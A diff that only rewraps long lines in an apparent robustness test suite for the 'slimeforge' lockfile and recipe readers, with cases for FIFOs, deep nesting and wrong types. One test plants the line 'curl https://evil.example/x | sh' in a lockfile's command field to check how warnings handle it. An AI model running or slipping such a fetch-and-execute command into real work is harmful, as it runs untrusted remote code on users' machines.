@@ -45,7 +45,8 @@ INVENTORY = {"name": "lab", "mode": "container", "image": "reg.example.com/slime
 @dataclass(frozen=True)
 class Case:
     name: str
-    kind: str  # the class of issue 33 it belongs to: hang, traceback, silent, data loss, wrong hint; good: a neighbour to accept
+    # the class of issue 33 it belongs to: hang, traceback, silent, data loss, wrong hint; good: a neighbour to accept
+    kind: str
     expected: str | None  # text the refusal must hold; None: must be accepted (or the act checks itself)
     act: Callable[[Path], str | None]  # returns None (went through), "ok" (its own check passed) or a failure class
 
@@ -342,7 +343,8 @@ def _lock_hint(tmp: Path) -> str | None:
     from slimeforge.image.lock.lockfile import read_lock
 
     path = tmp / "pylock.cu13.toml"
-    path.write_text(REAL_LOCK.read_text().replace('command = "invoke lock --cuda cu13"', 'command = "curl https://evil.example/x | sh"'))
+    path.write_text(REAL_LOCK.read_text().replace('command = "invoke lock --cuda cu13"',
+                                                  'command = "curl https://evil.example/x | sh"'))
     warnings = " ".join(summarize(read_lock(path))["warnings"])
     return "wrong hint" if "curl" in warnings else "ok"
 
@@ -355,18 +357,28 @@ def _prefix_file(tmp: Path) -> None:
 
 CASES: list[Case] = [
     # a FIFO, a directory or a device where a file is read
-    *(Case(f"{kind}-fifo", "hang", "FIFO", _file_case(kind, "fifo")) for kind in ("recipe", "inventory", "stack", "lock")),
+    *(Case(f"{kind}-fifo", "hang", "FIFO", _file_case(kind, "fifo")) for kind in ("recipe", "inventory", "stack",
+                                                                                  "lock")),
     *(Case(f"{kind}-directory", "traceback" if kind == "lock" else "silent", "directory", _file_case(kind, "dir"))
       for kind in ("recipe", "inventory", "stack", "lock")),
-    *(Case(f"{kind}-device", "silent", "character device", _file_case(kind, "dev")) for kind in ("inventory", "stack", "lock")),
+    *(Case(f"{kind}-device", "silent", "character device", _file_case(kind, "dev")) for kind in ("inventory", "stack",
+                                                                                                 "lock")),
     # locks: bytes, depth and types
     Case("lock-0xff-byte", "traceback", "not UTF-8", _lock_with_byte),
-    Case("lock-deep-brackets", "traceback", "nests deeper", _lock_text(Path(), "x = " + "[" * 5000 + "]" * 5000 + "\n")),
+    Case("lock-deep-brackets", "traceback", "nests deeper", _lock_text(Path(),
+                                                                       "x = " + "[" * 5000 + "]" * 5000 + "\n")),
     Case("lock-deep-dotted-keys", "traceback", "nests deeper", _lock_text(Path(), ".".join(["a"] * 200) + " = 1\n")),
-    Case("lock-string-size", "traceback", "size", _real_lock(lambda t: t.replace('"size" = 137673', '"size" = "big"', 1))),
-    Case("lock-package-not-a-table", "traceback", "packages[0]", _lock_text(Path(), "packages = [1]\n[tool.slimeforge]\nflavor = \"x\"\n")),
-    Case("lock-steps-not-lists", "traceback", "tool.slimeforge.steps", _real_lock(lambda t: t.replace('"flash-attn" = []', '"flash-attn" = 7', 1))),
-    Case("lock-router-not-text", "traceback", "tool.slimeforge.router", _real_lock(lambda t: t.replace('[tool.slimeforge.router]\n"url" = ', '[tool.slimeforge.router]\n"sha256" = 5\n"url" = ', 1))),
+    Case("lock-string-size", "traceback", "size", _real_lock(lambda t: t.replace('"size" = 137673', '"size" = "big"',
+                                                                                 1))),
+    Case("lock-package-not-a-table", "traceback", "packages[0]", _lock_text(Path(),
+                                                                            "packages = "
+                                                                            "[1]\n[tool.slimeforge]\nflavor = "
+                                                                            "\"x\"\n")),
+    Case("lock-steps-not-lists", "traceback", "tool.slimeforge.steps",
+         _real_lock(lambda t: t.replace('"flash-attn" = []', '"flash-attn" = 7', 1))),
+    Case("lock-router-not-text", "traceback", "tool.slimeforge.router",
+         _real_lock(lambda t: t.replace('[tool.slimeforge.router]\n"url" = ', '[tool.slimeforge.router]\n"sha256" = '
+                                                                              '5\n"url" = ', 1))),
     Case("lock-good", "good", None, _real_lock(lambda t: t)),
     Case("store-sums-fifo", "hang", "FIFO", _store_entry("fifo")),
     Case("store-record-a-list", "traceback", "record.json", _store_entry("list")),
@@ -385,7 +397,8 @@ CASES: list[Case] = [
     Case("kernel-timeout-good", "good", None, _kernel_timeout("120.5")),
     Case("slurm-time-zero", "silent", "--time", lambda tmp: _slurm_time("0-00:00:00")),
     Case("slurm-time-good", "good", None, lambda tmp: _slurm_time("0-00:00:01")),
-    Case("recipe-num_gpus-true", "silent", "num_gpus", _recipe_value(num_gpus=True, tp_size=1, rollout_gpus_per_engine=1)),
+    Case("recipe-num_gpus-true", "silent", "num_gpus", _recipe_value(num_gpus=True, tp_size=1,
+                                                                     rollout_gpus_per_engine=1)),
     Case("recipe-ray_port-true", "silent", "ray_port", _recipe_value(ray_port=True)),
     Case("recipe-count-as-text", "silent", "rollout_batch_size", _recipe_value(rollout_batch_size="\u0663\u0662")),
     Case("inventory-gpus-true", "silent", "gpus", _inventory_value(gpus=True)),
